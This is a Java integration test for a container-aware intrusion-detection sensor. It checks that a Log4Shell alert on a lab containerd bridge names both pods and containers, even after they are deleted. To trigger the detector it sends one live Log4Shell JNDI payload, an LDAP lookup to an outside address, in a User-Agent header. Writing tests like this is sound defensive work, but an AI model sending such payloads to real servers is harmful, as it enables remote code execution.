package io.crowsnest.sensor.live;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.crowsnest.sensor.SharedData;
import io.crowsnest.sensor.replay.ReplayOptions;
import io.crowsnest.sensor.replay.ReplayResult;
import io.crowsnest.sensor.replay.ReplayRunner;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * End to end on a real containerd (Debian's 1.6, isolated by {@code pcaps/lab/containerd.sh ... cri}): a real pod
 * sandbox and web container run by containerd's CRI plugin without a kubelet ({@link CriClient}), networked by
 * Debian's CNI plugins (host-device + static: 10.231.0.30 on bridge {@code cn-ctdbr0}), and a plain {@code ctr}
 * container named by nerdctl's annotation (in namespace {@code cn-ctd-b}, 10.231.0.20, on the same bridge);
 * {@code crowsnest live} captures the bridge and names both ends of the Log4Shell alert their traffic raises from
 * containerd's state directory. The client is deleted right after its request: the live alert still names it, and
 * so does a replay of the sensor's own packet ring with its identity journal, run after every container and the pod
 * are gone - a container deleted between the packet and the alert is named by what it was.
 */
@Tag("root")
class ContainerdLiveRootTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String IMAGE = "docker.io/cn-ctd/busybox:1";

    @Test
    void alertsNameContainerdPodsAndContainersEvenAfterTheyAreDeleted(@TempDir Path tmp) throws Exception {
        LiveLabTest.assertRoot();
        if (!run(List.of("containerd", "--version"), 10).ok() || !Files.isExecutable(Path.of("/bin/busybox"))) {
            fail("needs Debian's containerd and busybox-static: apt-get install -y containerd busybox-static");
        }
        Path script = SharedData.projectRoot().resolve("pcaps/lab/containerd.sh");
        for (List<String> leftover : List.of(List.of("ip", "netns", "del", "cn-ctd-a"), List.of("ip", "netns", "del", "cn-ctd-b"),
                List.of("ip", "link", "del", "cn-ctdbr0"))) {
            run(leftover, 10); // an interrupted run's
        }
        Path dir = Files.createTempDirectory(Path.of("/tmp"), "cn-ctd-");
        String sock = dir.resolve("containerd.sock").toString();
        Process sensor = null;
        CriClient cri = new CriClient(sock, tmp);
        String sandbox = null;
        try {
            Result up = run(List.of("bash", script.toString(), "up", dir.toString(), "cri"), 120);
            assertTrue(up.ok(), () -> "containerd.sh up: " + up.output());
            // the pod, as a kubelet would ask for it: sandbox (CNI gives it 10.231.0.30), then its web container
            String uid = UUID.randomUUID().toString();
            Path logs = Files.createDirectories(tmp.resolve("pod-logs"));
            byte[] pod = CriClient.sandboxConfig("web-5d8f", uid, "shop", logs.toString(), "/cn-ctd/kubepods/burstable/pod" + uid);
            sandbox = cri.runPodSandbox(pod);
            String web = cri.createContainer(sandbox, pod, "web", IMAGE, List.of("/bin/busybox"),
                    List.of("httpd", "-f", "-p", "8080", "-h", "/www"));
            cri.startContainer(web);
            ctr(sock, "cn-ctd", "run", "-d", "--with-ns", "network:/var/run/netns/cn-ctd-b", "--annotation",
                    "nerdctl/name=debug-shell", IMAGE, "cn-ctd-client", "/bin/busybox", "sleep", "3600");

            Path out = tmp.resolve("out");
            Path journal = tmp.resolve("identity.jsonl");
            Path err = tmp.resolve("sensor.err");
            String java = ProcessHandle.current().info().command().orElse("java");
            sensor = new ProcessBuilder(java, "-cp", System.getProperty("java.class.path"), "io.crowsnest.sensor.cli.CrowsnestCli",
                    "live", "--interfaces", "cn-ctdbr0", "--out", out.toString(), "--pcap-out", tmp.resolve("ring").toString(),
                    "--containerd-state", dir.resolve("state").toString(), "--docker-socket", tmp.resolve("no-docker.sock").toString(),
                    "--kubernetes", "off", "--node", "cn-ctd-node", "--identity-out", journal.toString(),
                    "--metrics-address", "none", "--admin-address", "none", "--stats-interval", "1")
                    .redirectOutput(tmp.resolve("sensor.out").toFile()).redirectError(err.toFile()).start();
            awaitFile(err, "capturing on cn-ctdbr0", sensor, 30);
            assertTrue(Files.readString(err).contains("+ containerd tasks in " + dir.resolve("state")), Files.readString(err));
            awaitFile(journal, "debug-shell", sensor, 15); // the sensor knows the client before it talks

            Result wget = run(List.of("ctr", "-a", sock, "-n", "cn-ctd", "tasks", "exec", "--exec-id", "wget-1", "cn-ctd-client",
                    "/bin/busybox", "wget", "-q", "-O", "/dev/null", "--header", "User-Agent: ${jndi:ldap://10.231.0.66:1389/a}",
                    "http://10.231.0.30:8080/"), 30);
            assertTrue(wget.ok(), wget::output);
            ctr(sock, "cn-ctd", "tasks", "delete", "-f", "cn-ctd-client"); // gone right after its request
            ctr(sock, "cn-ctd", "containers", "delete", "cn-ctd-client");

            Path eve = out.resolve("eve.json");
            awaitFile(eve, "\"signature_id\":9100001", sensor, 30);
            JsonNode live = log4shell(eve);
            try {
                assertNames(live, web, "live");
            } catch (AssertionError e) {
                throw new AssertionError(e.getMessage() + "\nidentity journal:\n" + Files.readString(journal)
                        + "\nsensor:\n" + Files.readString(err), e);
            }

            sensor.destroy(); // SIGTERM: flushes eve.json, the journal and the ring
            assertTrue(sensor.waitFor(20, TimeUnit.SECONDS), "sensor did not exit on SIGTERM");
            assertEquals(0, sensor.exitValue(), Files.readString(err));
            cri.stopPodSandbox(sandbox); // the pod goes, as the kubelet deletes it
            cri.removePodSandbox(sandbox);
            sandbox = null;

            // every container is gone now: a replay of the captured packets with the journal still names them
            ReplayOptions o = new ReplayOptions();
            try (Stream<Path> ring = Files.list(tmp.resolve("ring"))) {
                ring.filter(p -> p.toString().endsWith(".pcap")).sorted().forEach(o.files::add);
            }
            o.identityFile = journal;
            o.outDir = tmp.resolve("replay");
            ReplayResult r = new ReplayRunner(o, new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8)).run();
            assertEquals(0, r.exitCode, r.inputErrors.toString());
            JsonNode replayed = log4shell(o.outDir.resolve("eve.json"));
            try {
                assertNames(replayed, web, "replay after the deletes");
            } catch (AssertionError e) {
                throw new AssertionError(e.getMessage() + "\nidentity journal:\n" + Files.readString(journal), e);
            }
            assertEquals(live.path("src_workload"), replayed.path("src_workload"));
            assertEquals(live.path("dest_workload"), replayed.path("dest_workload"));
            System.out.println("containerd live: " + JSON.writeValueAsString(live.path("src_workload")) + " -> "
                    + JSON.writeValueAsString(live.path("dest_workload")));
        } finally {
            if (sensor != null && sensor.isAlive()) {
                sensor.destroyForcibly();
                sensor.waitFor(10, TimeUnit.SECONDS);
            }
            if (sandbox != null) {
                try {
                    cri.stopPodSandbox(sandbox); // the CNI DEL hands the pod's interface back
                    cri.removePodSandbox(sandbox);
                } catch (Exception e) {
                    System.err.println("cleanup: " + e.getMessage() + " (containerd.sh down removes it anyway)");
                }
            }
            Result down = run(List.of("bash", script.toString(), "down", dir.toString()), 120);
            if (!down.ok()) {
                System.err.println("containerd.sh down: " + down.output());
            }
        }
    }

    private static void assertNames(JsonNode alert, String webId, String what) {
        String a = alert.toString();
        assertEquals("10.231.0.20", alert.path("src_ip").asText(), a);
        JsonNode s = alert.path("src_workload");
        assertEquals("container", s.path("kind").asText(), what + ": " + a);
        assertEquals("debug-shell", s.path("container").asText(), a);
        assertEquals("cn-ctd-client", s.path("container_id").asText(), a);
        assertEquals("10.231.0.30", alert.path("dest_ip").asText(), a);
        assertEquals("cn-ctd", s.path("labels").path("containerd.namespace").asText(), a);
        assertEquals("cn-ctd-node", s.path("node").asText(), a);
        JsonNode d = alert.path("dest_workload");
        assertEquals("pod", d.path("kind").asText(), what + ": " + a);
        assertEquals("shop", d.path("namespace").asText(), a);
        assertEquals("web-5d8f", d.path("pod").asText(), a);
        assertEquals("web", d.path("container").asText(), a);
        assertEquals(webId, d.path("container_id").asText(), a);
        assertEquals(IMAGE, d.path("image").asText(), a);
        assertFalse(d.has("owner"), "no Kubernetes API here: no owner: " + a);
    }

    private static JsonNode log4shell(Path eve) throws IOException {
        for (String line : Files.readAllLines(eve)) {
            JsonNode n = JSON.readTree(line);
            if (n.path("alert").path("signature_id").asLong() == 9100001) {
                return n;
            }
        }
        throw new AssertionError("no Log4Shell alert in " + eve + ":\n" + Files.readString(eve));
    }

    private static void ctr(String sock, String namespace, String... args) throws Exception {
        List<String> cmd = new ArrayList<>(List.of("ctr", "-a", sock, "-n", namespace));
        cmd.addAll(List.of(args));
        Result r = run(cmd, 60);
        assertTrue(r.ok(), () -> String.join(" ", cmd) + ": " + r.output());
    }

    private static void awaitFile(Path f, String text, Process sensor, int seconds) throws Exception {
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
        while (System.nanoTime() < end) {
            if (Files.exists(f) && Files.readString(f).contains(text)) {
                return;
            }
            if (!sensor.isAlive()) {
                fail("sensor exited (" + sensor.exitValue() + ") before '" + text + "' appeared in " + f);
            }
            Thread.sleep(50);
        }
        fail("'" + text + "' did not appear in " + f + " within " + seconds + " s:\n" + (Files.exists(f) ? Files.readString(f) : "(no file)"));
    }

    record Result(int exit, String output) {
        boolean ok() {
            return exit == 0;
        }
    }

    private static Result run(List<String> cmd, int seconds) throws Exception {
        Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
        p.getOutputStream().close();
        byte[] out = p.getInputStream().readAllBytes();
        if (!p.waitFor(seconds, TimeUnit.SECONDS)) {
            p.destroyForcibly();
            return new Result(-1, "timed out after " + seconds + " s");
        }
        return new Result(p.exitValue(), new String(out, StandardCharsets.UTF_8));
    }
}
